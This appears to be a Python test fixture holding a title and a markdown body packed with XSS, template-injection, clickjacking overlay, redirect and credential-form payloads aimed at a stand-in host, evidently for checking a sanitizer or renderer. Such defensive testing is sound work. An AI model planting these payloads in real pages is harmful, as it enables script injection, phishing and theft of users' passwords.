"""A title and a text that try to run, load, cover or lead astray in every way that a browser or a template knows."""

TITLE = "</title></script><script>alert(1)</script><img src=x onerror=alert(2)>{{ 7*7 }}{% raw %}"
BODY = """\
<script>alert(3)</script><style>body{display:none}</style> {{ config.site_name }} {% include "x" %} {{ 7*7 }}

[a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>) [c](//tracker.example/)
<a href="JaVaScRiPt&colon;alert(6)">d</a>
[e](vbscript:alert(7)) <a href="&#106;avascript:alert(8)" onclick="alert(9)">f</a>

![](https://tracker.example/p.png) <img src="data:image/svg+xml,<svg onload=alert(10)>"> <img src="//tracker.example/q.png">

<div id="__config" class="md-overlay" style="position:fixed;inset:0;background:url(https://tracker.example/b.png)">qoplama</div>
<iframe src="https://tracker.example/"></iframe><object data="https://tracker.example/"></object><svg onload="alert(11)"></svg>
<form action="https://tracker.example/"><input name="parol"><button>Yuborish</button></form>
<meta http-equiv="refresh" content="0;url=https://tracker.example/"><link rel="stylesheet" href="https://tracker.example/s.css">
<base href="https://tracker.example/"><math><mtext><style><img src=x onerror=alert(12)></style></mtext></math>

[g](loy-2026-001.md){onclick=alert(13) style="position:fixed"}

| chap | o‘ng |
|:-----|-----:|
| a    |   10 |
"""
